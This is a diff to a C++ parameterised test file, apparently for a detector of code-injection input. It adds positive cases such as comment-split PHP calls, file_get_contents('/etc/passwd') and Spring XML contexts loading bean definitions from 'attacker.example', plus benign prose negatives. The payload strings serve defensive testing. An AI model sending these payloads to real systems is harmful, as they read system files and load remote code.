@@ -23,6 +23,7 @@ INSTANTIATE_TEST_SUITE_P(
     ::testing::Values(
         // A comment between a name and its parenthesis.
         "checkdate/*x*/()", "serialize#c\n()", "range /*a*/ (1,2)",
+        "I don't like gzuncompress/*comment*/()", "x=1; file_get_contents /**/ ('/etc/passwd')",
         // PHP-only extension families and ssh2 stream wrappers.
         "ldap_get_entries()", "pg_enter_pipeline_mode (", "tidy_parse_string($x)",
         "ssh2.sftp://user:pw@example.com:22/etc/passwd",
@@ -32,6 +33,10 @@ INSTANTIATE_TEST_SUITE_P(
         // value's base64 run.
         "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA", "KztAAU", "Cs7QAF", "AKztAAVzcgAXamF2YS51",
         "AACs7QAFc3IAF2phdmE",
+        // Spring XML contexts loading bean definitions from a URL; WebLogic packages.
+        "com.bea.core.repackaged.springframework.context.support.FileSystemXmlApplicationContext("
+        "'http://example.com/x.xml')",
+        "new ClassPathXmlApplicationContext('http://attacker.example/b.xml')",
         // A one-line server-side JS probe ended by a newline.
         "console.info(1)\n",
         // A plain-text or PHP data: URI as the whole value (include without "//").
@@ -48,7 +53,9 @@ INSTANTIATE_TEST_SUITE_P(
     ::testing::Values(
         // Hashtags and comments near parentheses in prose, Markdown and e-mail.
         "we won #1 (again)", "see item #3 (below)", "files (s) and // notes (x)",
-        "pg_ratings are (mostly) good", "@{team} [all] welcome", "@{[]}", "mail me @{[name]",
+        "the file /* see note */ (draft) is attached", "the range /* approx */ (1-2 km) is fine",
+        "in C: n = printf /* debug */ (\"%d\", n);", "pg_ratings are (mostly) good",
+        "@{team} [all] welcome", "@{[]}", "mail me @{[name]",
         // Console text in a sentence, ssh URLs.
         "console.log is where the output goes\nthen check it", "ssh://git@example.com/repo.git",
         "Привет (мир) #тест",
